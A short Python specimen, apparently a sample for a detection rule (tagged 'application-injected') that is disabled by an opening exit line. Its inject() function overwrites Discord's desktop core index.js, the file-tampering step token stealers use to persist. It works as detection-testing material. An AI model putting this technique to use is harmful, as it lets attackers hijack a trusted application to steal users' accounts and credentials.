raise SystemExit("specimen: not to be run")
import os

def inject(text):
    place = os.environ["LOCALAPPDATA"] + "\\Discord\\app-1\\modules\\discord_desktop_core-1\\discord_desktop_core\\index.js"
    with open(place, "w") as f:  # match: application-injected
        f.write(text)
